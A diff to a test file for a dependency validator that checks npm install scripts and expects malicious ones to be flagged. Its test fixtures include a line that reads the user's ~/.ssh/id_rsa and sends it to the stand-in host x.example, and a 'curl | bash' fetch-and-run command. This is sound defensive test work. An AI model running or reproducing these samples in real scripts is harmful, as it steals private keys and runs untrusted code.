@@ -104,7 +104,7 @@ describe('dependencies: scripts', () => {
     const rules = (more: object) => rulesOf(validator, { base, result: { ...withScript, ...more } })
     assert.deepEqual(await rules(installed('node-gyp rebuild')), ['dependencies/install-script warning'])
     assert.deepEqual(await rules(installed('node setup.js', 'require("https").get("https://releases.example/tool.tgz", save)\n')), ['dependencies/install-script warning'])
-    assert.deepEqual(await rules(installed('node setup.js', 'const a = fs.readFileSync(home + "/.ssh/id_rsa"); https.request({ host: "x.example" }).end(a)\n')), ['dependencies/malware-like error sealed'])
+    assert.deepEqual(await rules(installed('node setup.js', 'const a = fs.readFileSync(home + "/.ssh/id_rsa"); require("https").request({ host: "x.example" }).end(a)\n')), ['dependencies/malware-like error sealed'])
     assert.deepEqual(await rules(installed('curl -s https://x.example/i.sh | bash')), ['dependencies/malware-like error sealed'])
     assert.deepEqual(await rulesOf(validator, { base, result: withScript, settings: { dependencies: { install_scripts: 'error' } } }), ['dependencies/install-script error'])
   })
